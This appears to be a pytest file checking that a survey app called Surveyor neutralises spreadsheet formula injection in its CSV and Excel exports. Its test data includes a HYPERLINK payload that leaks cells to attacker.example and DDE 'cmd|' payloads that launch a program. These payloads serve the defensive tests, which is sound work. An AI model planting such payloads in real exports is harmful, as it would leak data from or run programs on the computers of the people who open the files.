"""Penetration test finding M5 (issue 12): spreadsheet formulas in exports.

The attack: a citizen leaves an anonymous comment such as ``=HYPERLINK(...)``, an inspector
types ``+cmd|...`` into a site field, or a point is imported with a formula for a code. A
researcher downloads the responses or inspections and opens them in Excel or LibreOffice, which
runs the formula on the researcher's computer (leaking the other cells to a web address, or
starting a program).

What Surveyor promises (README, "Exports and spreadsheet formulas"): in every CSV and Excel file
it produces, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is written with a single quote in front (OWASP's CSV-injection guidance), so the spreadsheet
shows it as text. Numbers stay numbers, negative ones included. SPSS files keep the text as
entered: SPSS never evaluates text.
"""
from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import uuid

import openpyxl
import pytest
from sqlalchemy import select

from surveyor.exports.formulas import FORMULA_STARTS, inert
from surveyor.models import Instrument, ServicePoint
from surveyor.responses import record_response

# The strings of the penetration test, and the two whitespace starts OWASP lists.
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2&B2,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
ARITHMETIC = "-2+3"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ATTACKS = (HYPERLINK, DDE, ARITHMETIC, AT_SUM, "\t=1+2", "\r=1+2")

POINTS = ("code,name_fa,name_en,name_ar,district,lat,lon,instruments\n"
          '"=1+2","=HYPERLINK(""http://attacker.example/"",""بازار"")",@SUM(A1),-2+3,5,,,TRN-Q01;SRV-C06\n')


def _looks_like_a_formula(value) -> bool:
    """A text a spreadsheet would evaluate: it starts like a formula and is not a plain number."""
    if not (isinstance(value, str) and value.startswith(FORMULA_STARTS)):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


# ---- The rule itself ----

@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(attack):
    assert inert(attack) == "'" + attack


@pytest.mark.parametrize("number", [-2, -2.5, 0, 3, 1e-9, "-2", "-2.5", "+4", "3e5", ".5"])
def test_numbers_stay_numbers(number):
    assert inert(number) == number


@pytest.mark.parametrize("text", ["قطارها شلوغ است", "12-14", "a=b", " =1+2", "'=1+2", "", None, "2026-01-02"])
def test_other_values_are_unchanged(text):
    assert inert(text) == text


# ---- Responses: the citizens' comments ----

@pytest.fixture
def researcher(loaded, researcher):
    """The suite's logged-in researcher, with the point whose code is a formula imported."""
    from surveyor.service_points.importer import import_points
    import_points(loaded.session, POINTS)
    loaded.session.commit()
    return researcher


@pytest.fixture
def poisoned_responses(researcher, loaded):
    """Four responses to TRN-Q01 at the point whose code is a formula, each comment an attack."""
    session = loaded.session
    metro = session.scalar(select(Instrument).where(Instrument.code == "TRN-Q01"))
    point = session.scalar(select(ServicePoint).where(ServicePoint.code == "=1+2"))
    for attack in (HYPERLINK, DDE, ARITHMETIC, AT_SUM):
        response, _ = record_response(session, metro.latest, {"overall": 4, "recommend": 9, "comment": attack},
                                      client_id=str(uuid.uuid4()), channel="qr", language="fa",
                                      service_point_id=point.id)
    session.commit()
    return researcher


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_responses_csv_neutralises_comments_and_point_codes(poisoned_responses):
    table = _csv_cells(poisoned_responses.get("/results/TRN-Q01/responses.csv?flagged=1").data)
    header = table.index(next(row for row in table if "comment" in row))
    rows = [dict(zip(table[header], row)) for row in table[header + 1:]]
    assert sorted(row["comment"] for row in rows) == sorted("'" + a for a in (HYPERLINK, DDE, ARITHMETIC, AT_SUM))
    assert {row["service_point"] for row in rows} == {"'=1+2"}
    assert {row["overall"] for row in rows} == {"4"}
    assert not [cell for row in table for cell in row if _looks_like_a_formula(cell)]


def test_responses_csv_from_the_command_line_too(poisoned_responses, runner, tmp_path):
    out = tmp_path / "responses.csv"
    assert runner.invoke(args=["responses", "export", "TRN-Q01", "-o", str(out)]).exit_code == 0
    table = _csv_cells(out.read_bytes())
    assert "'" + HYPERLINK in [cell for row in table for cell in row]
    assert not [cell for row in table for cell in row if _looks_like_a_formula(cell)]


def _xlsx_cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_responses_excel_neutralises_every_sheet(poisoned_responses):
    cells = _xlsx_cells(poisoned_responses.get("/results/TRN-Q01/responses.xlsx?flagged=1").data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    assert not [c.value for c in cells if _looks_like_a_formula(c.value)]
    texts = {c.value for c in cells}
    assert {"'" + a for a in (HYPERLINK, DDE, ARITHMETIC, AT_SUM)} <= texts and "'=1+2" in texts
    assert 4 in {c.value for c in cells if c.data_type == "n"}  # the ratings are numbers


def test_spss_keeps_the_text_as_entered(poisoned_responses, tmp_path):
    """SPSS evaluates no text, so the .sav file holds the comment exactly as the citizen wrote it."""
    import pyreadstat
    path = tmp_path / "responses.sav"
    path.write_bytes(poisoned_responses.get("/results/TRN-Q01/responses.sav?flagged=1").data)
    frame, _meta = pyreadstat.read_sav(str(path))
    assert HYPERLINK in set(frame["comment"])


# ---- Inspections: inspectors' site values and point codes ----

@pytest.fixture
def poisoned_inspection(poisoned_responses, loaded, make_user, tmp_path):
    """An inspection of SRV-C06 (markets) at the poisoned point: its free-text site item holds an
    attack, its number site item a plain number."""
    from surveyor.inspect.submission import Visit, parse_inspection, record_inspection
    session = loaded.session
    inspector = make_user("reza", "inspector", "a strong pass phrase")
    market = session.scalar(select(Instrument).where(Instrument.code == "SRV-C06"))
    point = session.scalar(select(ServicePoint).where(ServicePoint.code == "=1+2"))
    definition = copy.deepcopy(market.latest.definition)
    form = {}
    for item in definition["items"]:
        prefix = f"item-{item['code']}-"
        if item["role"] == "site":
            form[prefix + "value"] = ARITHMETIC if item["type"] == "text" else "12"
        elif item["type"] == "pass_fail":
            form[prefix + "result"] = "pass"
        elif item["type"] == "rating4":
            form[prefix + "rating"] = "3"
        else:
            bounds = item["acceptable"]
            form[prefix + "measured"] = str(bounds.get("min", bounds.get("max")))
    parsed = parse_inspection(definition, form, {})
    visit = Visit(client_id=str(uuid.uuid4()), version_id=market.latest.id, instrument_id=market.id,
                  service_point_id=point.id, inspector_id=inspector.id, assignment_id=None,
                  started_at=dt.datetime.now(dt.timezone.utc) - dt.timedelta(minutes=30),
                  latitude=36.29, longitude=59.61, accuracy_m=8.0)
    record_inspection(session, visit, definition, parsed, tmp_path / "photos")
    session.commit()
    return poisoned_responses


def test_inspections_csv_neutralises_site_values_and_point_codes(poisoned_inspection):
    table = _csv_cells(poisoned_inspection.get("/results/SRV-C06/inspections.csv").data)
    header = table.index(next(row for row in table if "sampled_stalls" in row))
    (row,) = [dict(zip(table[header], r)) for r in table[header + 1:]]
    assert row["sampled_stalls"] == "'-2+3" and row["service_point"] == "'=1+2"
    assert row["stalls_open"] == "12" and row["scale_error"] == "-5"  # a negative measurement stays a number
    assert not [cell for r in table for cell in r if _looks_like_a_formula(cell)]


def test_inspections_excel_neutralises_site_values(poisoned_inspection):
    cells = _xlsx_cells(poisoned_inspection.get("/results/SRV-C06/inspections.xlsx").data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _looks_like_a_formula(c.value)]
    assert "'-2+3" in {c.value for c in cells}
    numbers = {c.value for c in cells if c.data_type == "n"}
    assert 12 in numbers and -5 in numbers  # the number site item and the negative scale error stay numbers


# ---- Corrective actions: what inspectors and supervisors type ----

@pytest.fixture
def poisoned_action(poisoned_inspection, loaded):
    """A corrective action on that inspection, its description and assignee each an attack; the
    site's code and names are attacks already."""
    from surveyor.models import CorrectiveAction, Inspection
    session = loaded.session
    inspection = session.scalar(select(Inspection))
    item = next(i["code"] for i in inspection.version.definition["items"] if i["role"] == "check")
    session.add(CorrectiveAction(inspection_id=inspection.id, item_code=item, description=HYPERLINK, assignee=DDE,
                                 due_on=dt.date.today()))
    session.commit()
    return poisoned_inspection


@pytest.mark.parametrize("lang", ["en", "fa"])
def test_the_corrective_actions_csv_neutralises_descriptions_and_sites(poisoned_action, lang):
    table = _csv_cells(poisoned_action.get(f"/inspect/actions.csv?lang={lang}").data)
    assert len(table) == 3  # the filters' line, the header, the action
    cells = [cell for row in table for cell in row]
    assert {"'" + HYPERLINK, "'" + DDE, "'=1+2"} <= set(cells)
    assert not [cell for cell in cells if _looks_like_a_formula(cell)]


def test_the_corrective_actions_excel_neutralises_every_sheet(poisoned_action):
    cells = _xlsx_cells(poisoned_action.get("/inspect/actions.xlsx?lang=en&q=%3DHYPERLINK").data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if _looks_like_a_formula(c.value)]
    texts = {c.value for c in cells}
    assert {"'" + HYPERLINK, "'" + DDE, "'=1+2", "'=HYPERLINK"} <= texts  # the search, on the filters sheet too
